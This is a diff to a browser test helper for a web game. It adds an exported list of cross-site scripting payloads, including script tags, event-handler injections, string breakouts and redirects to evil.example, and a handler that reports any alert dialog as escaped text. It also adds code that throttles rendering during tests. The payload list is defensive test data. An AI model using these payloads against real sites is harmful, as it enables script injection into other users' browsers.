@@ -31,6 +31,17 @@ export const onlyInAll = process.env.TEST_SHORT === '1' && 'make test-all runs i
 const WIDTHS = [{ width: 1280, height: 800 }, { width: 375, height: 740 }];
 export const [MAIN, OTHER] = process.env.BROWSER_WIDTHS === 'swapped' ? WIDTHS.toReversed() : WIDTHS;
 
+// What must stay text wherever somebody can write it: markup, ways out of attributes, scripts and comments,
+// addresses that run, entities, and texts that end a string of JavaScript or Lua. No line break among them.
+export const XSS = [
+    '<img src=x onerror=alert(1)>', '"><script>alert(1)</script>', 'javascript:alert(1)', '<svg/onload=alert(1)>',
+    "'-alert(1)-'", '</textarea><script>alert(1)</script>', '<iframe srcdoc="<script>alert(1)</script>">',
+    '<a href="javascript:alert(1)">x</a>', '--><script>alert(1)</script><!--', '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '<details open ontoggle=alert(1)>', '<math><mtext></p><style><img src onerror=alert(1)></style>', '{{7*7}}${alert(1)}',
+    '<style>@import"//evil.example/x"</style>', '<base href="//evil.example/">', '<meta http-equiv=refresh content=0;url=//evil.example>',
+    '<form action="//evil.example"><input autofocus onfocus=alert(1)>', '\\"}); alert(1); //', ']]><script>alert(1)</script>',
+];
+
 export const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
 
 export async function until(what, check, timeoutMs = WAIT_MS) {
@@ -199,16 +210,55 @@ export async function openBrowser(executablePath = CHROMIUM, more = []) {
     return browser;
 }
 
-// Where a page of this profile is the game, it draws as seldom as those of Player: without a graphics card
-// pictures take nearly all of the processors, and these tests are not about them.
+// In a page: pictures come seldom, and nothing is painted unless `window.isPainting`: without a graphics card
+// that takes nearly all of the processors. Everything else of a picture is done as always.
+const spareProcessors = ([pause, paints]) => {
+    if (window.isPainting !== undefined) {
+        return; // its profile and the page itself were told so
+    }
+    if (pause > 0) {
+        const draw = window.requestAnimationFrame.bind(window);
+        window.requestAnimationFrame = (picture) => setTimeout(() => draw(picture), pause);
+        window.cancelAnimationFrame = clearTimeout; // its numbers are those of timers now
+    }
+    window.isPainting = paints;
+    const { prototype } = WebGL2RenderingContext;
+    for (const name of ['drawArrays', 'drawElements', 'drawArraysInstanced', 'drawElementsInstanced']) {
+        const paint = prototype[name];
+        prototype[name] = function painted(...numbers) {
+            if (window.isPainting) {
+                paint.apply(this, numbers);
+            }
+        };
+    }
+};
+
+// A screenshot is of a picture that was painted for it.
+function paintScreenshots(page) {
+    const shoot = page.screenshot.bind(page);
+    page.screenshot = async (options) => {
+        await page.evaluate(() => new Promise((painted) => {
+            const view = document.querySelector('#view');
+            const isSeen = view?.checkVisibility({ visibilityProperty: true }) === true &&
+                document.querySelector('#hud')?.hidden === false;
+            window.isPainting = isSeen;
+            if (isSeen) {
+                requestAnimationFrame(() => requestAnimationFrame(painted));
+            } else {
+                painted();
+            }
+        }));
+        const picture = await shoot(options);
+        await page.evaluate(() => { window.isPainting = false; });
+        return picture;
+    };
+}
+
+// Where a page of this profile is the game, it draws as seldom as those of Player, and paints nothing.
 export async function drawSeldom(context) {
-    await context.addInitScript((pause) => {
-        if (location.pathname.startsWith('/play')) {
-            const draw = window.requestAnimationFrame.bind(window);
-            window.requestAnimationFrame = (picture) => setTimeout(() => draw(picture), pause);
-            window.cancelAnimationFrame = clearTimeout;
-        }
-    }, PAUSE_MS);
+    await context.addInitScript(`if (location.pathname.startsWith('/play')) {
+        (${spareProcessors})([${PAUSE_MS}, false]);
+    }`);
 }
 
 export async function closeBrowser() {
@@ -221,7 +271,7 @@ export class Player {
     // `context`: another tab of that one's profile. `before` is called before the page is loaded.
     static async open(port, name, {
         query = 'play', expectDrops = false, host = '127.0.0.1', context = null, before = null,
-        pauseMs = PAUSE_MS,
+        pauseMs = PAUSE_MS, paints = false, // paints: every picture, for those who read its pixels
     } = {}) {
         const player = new Player();
         player.name = name;
@@ -267,16 +317,17 @@ export class Player {
                 complain(message.text());
             }
         });
+        player.page.on('dialog', (dialog) => { // a text ran as a script
+            complain(`dialog: ${dialog.message()}`);
+            void dialog.dismiss();
+        });
         player.page.on('pageerror', (error) => complain(String(error)));
-        await player.page.addInitScript((pause) => {
-            if (pause > 0) {
-                const draw = window.requestAnimationFrame.bind(window);
-                window.requestAnimationFrame = (picture) => setTimeout(() => draw(picture), pause);
-                window.cancelAnimationFrame = clearTimeout; // its numbers are those of timers now
-            }
-            document.addEventListener('securitypolicyviolation', (event) =>
-                console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`));
-        }, pauseMs);
+        await player.page.addInitScript(spareProcessors, [pauseMs, paints]);
+        if (!paints) {
+            paintScreenshots(player.page);
+        }
+        await player.page.addInitScript(() => document.addEventListener('securitypolicyviolation', (event) =>
+            console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`)));
         await before?.(player.context, player.page);
         await player.page.goto(`http://${host}:${port}/${query}`);
         await player.page.fill('#name', name);
